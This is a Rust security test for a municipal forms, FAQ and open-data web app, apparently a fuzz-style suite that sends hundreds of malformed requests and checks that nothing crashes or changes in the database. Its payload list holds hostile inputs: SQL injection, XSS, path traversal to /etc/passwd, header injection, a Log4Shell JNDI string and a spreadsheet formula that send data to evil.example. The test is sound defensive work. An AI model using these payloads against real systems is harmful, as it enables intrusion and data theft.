//! Issue 14, the bad-input corpus: several hundred distinct malicious or malformed requests — huge and negative
//! numbers, bogus ids, path traversal, invalid UTF-8, NUL bytes, CR/LF header injection, `javascript:` links,
//! spreadsheet formulas, SQL meta-characters, deep JSON, wrong content types, missing or duplicated CSRF fields,
//! oversized bodies and parts, Japanese edge cases — sent to public forms, the JSON API, the FAQ, the CKAN API,
//! `/verify` and signed-in staff pages. None may answer 5xx, the server must stay responsive, and no stored row may
//! change. The corpus is generated as routes × payloads; it prints `security_bad_inputs_tried=N` (distinct
//! requests) for `bench/RESULTS.md`. Repeating-group count bombs are covered by the submission-path tests.

use crate::common;

use common::{TestApp, csrf_of, login_with, page_text};
use std::collections::HashSet;
use std::time::{Duration, Instant};

both!(the_server_survives_the_bad_input_corpus_unchanged);

/// Text payloads, each put into query values, path segments, form fields and JSON strings.
const PAYLOADS: &[&str] = &[
    "-1",
    "0",
    "9999999999999999999",
    "-9223372036854775809",
    "1e999",
    "NaN",
    "abc",
    "1.5",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f",
    "..\\..\\windows\\win.ini",
    "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "＝1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "' OR '1'='1",
    "1; DROP TABLE submissions; --",
    "' UNION SELECT password_hash FROM staff --",
    "%' AND 1=1 --",
    "a\r\nSet-Cookie: evil=1",
    "x\r\nBcc: victim@example.jp",
    "\0",
    "a\u{0}b",
    "ｶﾀｶﾅ ﾊﾝｶｸ",
    "髙橋 山﨑",
    "〜～",
    "𠮷野家",
    "\u{202E}evil",
    "\u{FEFF}",
    "/\\evil.example",
    "//evil.example",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
];

/// Percent-encoded byte sequences that are not valid UTF-8 once decoded, used raw in URLs.
const RAW_ENCODED: &[&str] = &["%FF%FE", "%C0%AE%C0%AE%2F", "%00", "%E3%81", "%ED%A0%80"];

/// Query routes: `{P}` is replaced by the encoded payload. Public unless listed in [`STAFF_GETS`].
const PUBLIC_GETS: &[&str] = &[
    "/t/390003/forms/dx-seminar?d={P}",
    "/t/392014/faq?q={P}",
    "/api/v1/t/392014/faq/ask?q={P}",
    "/api/3/action/package_show?id={P}",
    "/api/3/action/package_search?q={P}&rows={P}",
    "/api/3/action/datastore_search?resource_id={P}&limit={P}",
    "/verify?code={P}",
    "/opendata?q={P}",
    "/t/{P}/forms/dx-seminar",
    "/t/390003/forms/{P}",
    "/verify/{P}",
    "/api/v1/verify/{P}",
    "/opendata/dataset/{P}",
    "/f/{P}",
    "/t/390003/forms/dx-seminar/done/{P}",
    "/api/postal/{P}",
];

/// Signed-in staff pages with a payload in the query or the id.
const STAFF_GETS: &[&str] = &[
    "/staff?q={P}",
    "/staff/faq?q={P}",
    "/staff/submissions/{P}",
    "/staff/forms/{P}/summary",
    "/staff/faq/entries/{P}",
    "/staff/issuance/batches/{P}",
];

/// Fields of the demo seminar form (`dx-seminar`) that take the payloads; `consent` is never sent, so no
/// request here is a complete application.
const FORM_FIELDS: &[&str] = &[
    "name",
    "organization",
    "email",
    "phone",
    "attendance",
    "support",
];

/// Which client sends a request.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
enum Who {
    Anonymous,
    Staff,
}

/// One request of the corpus. `{CSRF}` in the body is replaced by the sender's CSRF token when sent.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
struct Req {
    who: Who,
    post: bool,
    path: String,
    content_type: Option<String>,
    body: Vec<u8>,
}

impl Req {
    fn get(who: Who, path: String) -> Req {
        Req {
            who,
            post: false,
            path,
            content_type: None,
            body: Vec::new(),
        }
    }

    fn post(who: Who, path: &str, content_type: &str, body: impl Into<Vec<u8>>) -> Req {
        Req {
            who,
            post: true,
            path: path.into(),
            content_type: Some(content_type.into()),
            body: body.into(),
        }
    }
}

fn enc(s: &str) -> String {
    percent_encoding::utf8_percent_encode(s, percent_encoding::NON_ALPHANUMERIC).to_string()
}

const BOUNDARY: &str = "madoguchi-corpus-boundary";

/// A multipart body from raw (name, value) parts.
fn multipart(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut body = Vec::new();
    for (name, value) in parts {
        body.extend_from_slice(
            format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n")
                .as_bytes(),
        );
        body.extend_from_slice(value);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
    body
}

fn multipart_type() -> String {
    format!("multipart/form-data; boundary={BOUNDARY}")
}

/// The whole corpus, deduplicated.
fn corpus() -> Vec<Req> {
    let mut reqs = Vec::new();
    let encoded: Vec<String> = PAYLOADS
        .iter()
        .map(|p| enc(p))
        .chain(RAW_ENCODED.iter().map(|s| s.to_string()))
        .collect();
    for (routes, who) in [(PUBLIC_GETS, Who::Anonymous), (STAFF_GETS, Who::Staff)] {
        for route in routes {
            for p in &encoded {
                reqs.push(Req::get(who, route.replace("{P}", p)));
            }
        }
    }

    let form = "/t/390003/forms/dx-seminar";
    let api = "/api/v1/t/390003/forms/dx-seminar/submissions";
    let json = "application/json";
    let urlenc = "application/x-www-form-urlencoded";
    for p in PAYLOADS {
        for field in FORM_FIELDS {
            // Public form, multipart as the browser sends it, with a valid CSRF token.
            reqs.push(Req::post(
                Who::Anonymous,
                form,
                &multipart_type(),
                multipart(&[("_csrf", b"{CSRF}"), (field, p.as_bytes())]),
            ));
            // JSON API, the payload as the answer.
            let mut answers = serde_json::Map::new();
            answers.insert(field.to_string(), (*p).into());
            let body = serde_json::json!({ "answers": answers });
            reqs.push(Req::post(Who::Anonymous, api, json, body.to_string()));
        }
        // Payload as the draft token, the action, and a nested answer of the name part.
        reqs.push(Req::post(
            Who::Anonymous,
            form,
            &multipart_type(),
            multipart(&[("_csrf", b"{CSRF}"), ("_draft", p.as_bytes())]),
        ));
        reqs.push(Req::post(
            Who::Anonymous,
            form,
            &multipart_type(),
            multipart(&[("_csrf", b"{CSRF}"), ("_action", p.as_bytes())]),
        ));
        reqs.push(Req::post(
            Who::Anonymous,
            &format!("{form}/submit"),
            urlenc,
            format!("_csrf={{CSRF}}&_draft={}", enc(p)),
        ));
        // CSRF missing, forged, or duplicated with a forged value.
        reqs.push(Req::post(
            Who::Anonymous,
            form,
            &multipart_type(),
            multipart(&[("name", p.as_bytes())]),
        ));
        reqs.push(Req::post(
            Who::Anonymous,
            form,
            &multipart_type(),
            multipart(&[("_csrf", p.as_bytes()), ("name", b"x")]),
        ));
        // Staff form posts with a missing, forged or duplicated CSRF field: refused, nothing stored.
        let faq = format!("question={}&answer={}", enc(p), enc(p));
        reqs.push(Req::post(Who::Staff, "/staff/faq/new", urlenc, faq.clone()));
        reqs.push(Req::post(
            Who::Staff,
            "/staff/faq/new",
            urlenc,
            format!("_csrf={}&{faq}", enc(p)),
        ));
        reqs.push(Req::post(
            Who::Staff,
            "/staff/faq/new",
            urlenc,
            format!("_csrf={{CSRF}}&_csrf={}&{faq}", enc(p)),
        ));
        // CKAN write actions without a token (or with a forged one) must be refused.
        let resource = serde_json::json!({"package_id": p, "url": "javascript:alert(document.domain)", "name": p});
        reqs.push(Req::post(
            Who::Anonymous,
            "/api/3/action/resource_create",
            json,
            resource.to_string(),
        ));
        let package = serde_json::json!({"name": p, "title": p, "notes": p});
        reqs.push(Req::post(
            Who::Anonymous,
            "/api/3/action/package_create",
            json,
            package.to_string(),
        ));
        // FAQ feedback and verification with the payload.
        let feedback = serde_json::json!({"question_id": p, "helpful": p});
        reqs.push(Req::post(
            Who::Anonymous,
            "/api/v1/t/392014/faq/feedback",
            json,
            feedback.to_string(),
        ));
        reqs.push(Req::post(
            Who::Anonymous,
            "/api/v1/verify",
            json,
            serde_json::json!({"code": p}).to_string(),
        ));
    }

    // Malformed bodies: deep nesting, wrong types, invalid UTF-8, wrong content types, oversize.
    let deep_array = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let deep_object = format!(
        "{{\"answers\":{}1{}}}",
        "{\"a\":".repeat(50_000),
        "}".repeat(50_000)
    );
    let wide = format!(
        "{{\"answers\":{{{}}}}}",
        (0..50_000)
            .map(|i| format!("\"f{i}\":{i}"))
            .collect::<Vec<_>>()
            .join(",")
    );
    let big_string = format!(
        "{{\"answers\":{{\"support\":\"{}\"}}}}",
        "あ".repeat(1_400_000)
    );
    let bodies: Vec<Vec<u8>> = vec![
        deep_array.into_bytes(),
        deep_object.into_bytes(),
        wide.into_bytes(),
        big_string.into_bytes(),
        b"{\"answers\":".to_vec(),
        b"{\"answers\":null}".to_vec(),
        b"{\"answers\":[1,2,3]}".to_vec(),
        b"{\"answers\":{\"name\":{\"name\":[[[[]]]]}}}".to_vec(),
        b"{\"answers\":{\"email\":\"\xff\xfe\"}}".to_vec(),
        b"\xef\xbb\xbf{\"answers\":{}}".to_vec(),
        b"\x00\x00\x00".to_vec(),
        b"".to_vec(),
        b"null".to_vec(),
        b"9999999999999999999999999999".to_vec(),
        b"{\"answers\":{\"name\":1e999}}".to_vec(),
    ];
    let api_targets = [
        api,
        "/api/v1/t/392014/faq/feedback",
        "/api/v1/verify",
        "/api/3/action/package_create",
        "/api/3/action/package_search",
        "/api/3/action/datastore_search",
    ];
    for target in api_targets {
        for body in &bodies {
            reqs.push(Req::post(Who::Anonymous, target, json, body.clone()));
        }
        for content_type in [
            "text/plain",
            "application/xml",
            urlenc,
            "multipart/form-data",
        ] {
            reqs.push(Req::post(
                Who::Anonymous,
                target,
                content_type,
                b"{\"answers\":{}}".to_vec(),
            ));
        }
    }
    // Wrong content types and broken multipart to the public form.
    let mt = multipart_type();
    for (content_type, body) in [
        (json, b"{\"_csrf\":\"x\"}".to_vec()),
        (urlenc, b"_csrf={CSRF}&name=x".to_vec()),
        ("text/plain", b"name=x".to_vec()),
        ("multipart/form-data", b"--x\r\n".to_vec()),
        (
            "multipart/form-data; boundary=zzz",
            b"--zzz\r\nContent-Disposition: form-data\r\n\r\nx\r\n".to_vec(),
        ),
        (
            "multipart/form-data; boundary=zzz",
            b"--zzz\r\nContent-Disposition: form-data; name=\"\xff\"\r\n\r\nx\r\n--zzz--\r\n"
                .to_vec(),
        ),
        (mt.as_str(), b"garbage without boundary".to_vec()),
    ] {
        reqs.push(Req::post(Who::Anonymous, form, content_type, body));
    }
    // Invalid UTF-8 and NUL bytes as field values, an oversized field, many parts, an upload to a text field.
    let big = vec![b'a'; 4 * 1024 * 1024];
    let many: Vec<(String, Vec<u8>)> = (0..5_000)
        .map(|i| (format!("f{i}"), b"x".to_vec()))
        .collect();
    let many_refs: Vec<(&str, &[u8])> = std::iter::once(("_csrf", &b"{CSRF}"[..]))
        .chain(many.iter().map(|(n, v)| (n.as_str(), v.as_slice())))
        .collect();
    for parts in [
        vec![("_csrf", &b"{CSRF}"[..]), ("name", &b"\xff\xfe\xfd"[..])],
        vec![("_csrf", &b"{CSRF}"[..]), ("support", &b"a\x00b"[..])],
        vec![("_csrf", &b"{CSRF}"[..]), ("support", &big[..])],
        many_refs,
    ] {
        reqs.push(Req::post(
            Who::Anonymous,
            form,
            &multipart_type(),
            multipart(&parts),
        ));
    }
    let mut file_part = Vec::new();
    file_part.extend_from_slice(
        format!(
            "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n{{CSRF}}\r\n"
        )
        .as_bytes(),
    );
    file_part.extend_from_slice(format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"support\"; filename=\"../../etc/passwd\"\r\nContent-Type: application/x-msdownload\r\n\r\nMZ\r\n--{BOUNDARY}--\r\n").as_bytes());
    reqs.push(Req::post(
        Who::Anonymous,
        form,
        &multipart_type(),
        file_part,
    ));

    let mut seen = HashSet::new();
    reqs.retain(|r| seen.insert(r.clone()));
    reqs
}

/// Tables whose rows a bad request must never add, change or remove (logs, sessions, rate-limit counters and
/// drafts are left out: an anonymous visit may legitimately start them).
const STORED: &[&str] = &[
    "submissions",
    "submission_revisions",
    "submission_events",
    "forms",
    "form_versions",
    "faq_entries",
    "faq_entry_versions",
    "od_datasets",
    "od_resources",
    "staff",
    "departments",
    "tenants",
    "applicants",
    "issued_documents",
    "issuance_batches",
];

async fn stored_counts(app: &TestApp) -> Vec<(&'static str, i64)> {
    let mut counts = Vec::new();
    for table in STORED {
        counts.push((
            *table,
            app.scalar(&format!("SELECT COUNT(*) FROM {table}")).await,
        ));
    }
    counts
}

async fn the_server_survives_the_bad_input_corpus_unchanged(app: &TestApp) {
    let anonymous = app.browser_without_keep_alive();
    let anon_csrf = csrf_of(&page_text(&anonymous, app, "/t/390003/forms/dx-seminar").await);
    let staff = app.browser_without_keep_alive();
    login_with(&staff, app, "pref-admin").await;
    let staff_csrf = csrf_of(&page_text(&staff, app, "/staff/faq/new").await);
    let before = stored_counts(app).await;
    let faq_titles_before = app
        .scalar("SELECT COUNT(*) FROM faq_entries WHERE question LIKE '%evil%'")
        .await;

    let corpus = corpus();
    let mut failures = Vec::new();
    for req in &corpus {
        let (client, csrf) = match req.who {
            Who::Anonymous => (&anonymous, &anon_csrf),
            Who::Staff => (&staff, &staff_csrf),
        };
        let url = app.url(&req.path);
        let sent = if req.post {
            let has_placeholder = String::from_utf8_lossy(&req.body).contains("{CSRF}");
            let bytes = if has_placeholder {
                // Only the placeholder is swapped; invalid UTF-8 elsewhere is kept byte for byte.
                replace_bytes(&req.body, b"{CSRF}", csrf.as_bytes())
            } else {
                req.body.clone()
            };
            client
                .post(&url)
                .header("content-type", req.content_type.as_deref().unwrap_or(""))
                .body(bytes)
                .send()
                .await
        } else {
            client.get(&url).send().await
        };
        match sent {
            Ok(r) if r.status().is_server_error() => failures.push(format!(
                "{} {} → {}",
                method(req),
                short(&req.path),
                r.status()
            )),
            Ok(r) => {
                // Read the answer fully: a panic in a streamed body would show here.
                if let Err(e) = r.bytes().await {
                    failures.push(format!("{} {} → body {e}", method(req), short(&req.path)));
                }
            }
            // A route with a small body limit answers 413 and closes the connection while a big body is still
            // arriving, which the client sees as a send error; for bodies that large it is the expected refusal.
            // Anything else is a failure.
            Err(_) if req.body.len() > 64 * 1024 => {}
            Err(e) => failures.push(format!("{} {} → {e}", method(req), short(&req.path))),
        }
    }
    println!("security_bad_inputs_tried={}", corpus.len());
    // A NUL in a URL is refused up front with a Japanese message (PostgreSQL cannot store it; it was a 500).
    for path in [
        "/t/392014/faq?q=a%00b",
        "/api/v1/verify/%00",
        "/t/390003/forms/a%00b",
    ] {
        let r = anonymous.get(app.url(path)).send().await.unwrap();
        assert_eq!(r.status(), 400, "{path}");
        assert!(r.text().await.unwrap().contains("NUL文字"), "{path}");
    }
    assert!(corpus.len() >= 300, "corpus too small: {}", corpus.len());
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );

    // Still responsive, for a visitor who sent none of it.
    let started = Instant::now();
    let (status, page) = page_text_status(&app.browser(), app, "/t/390003/forms/dx-seminar").await;
    assert_eq!(status, 200);
    assert!(page.contains("DX"), "the form page renders");
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "slow after the corpus"
    );

    // Nothing stored changed.
    assert_eq!(stored_counts(app).await, before);
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM faq_entries WHERE question LIKE '%evil%'")
            .await,
        faq_titles_before
    );
}

fn method(r: &Req) -> &'static str {
    if r.post { "POST" } else { "GET" }
}

fn short(path: &str) -> String {
    path.chars().take(120).collect()
}

async fn page_text_status(client: &reqwest::Client, app: &TestApp, path: &str) -> (u16, String) {
    let r = client.get(app.url(path)).send().await.unwrap();
    (r.status().as_u16(), r.text().await.unwrap())
}

fn replace_bytes(haystack: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(haystack.len());
    let mut i = 0;
    while i < haystack.len() {
        if haystack[i..].starts_with(from) {
            out.extend_from_slice(to);
            i += from.len();
        } else {
            out.push(haystack[i]);
            i += 1;
        }
    }
    out
}
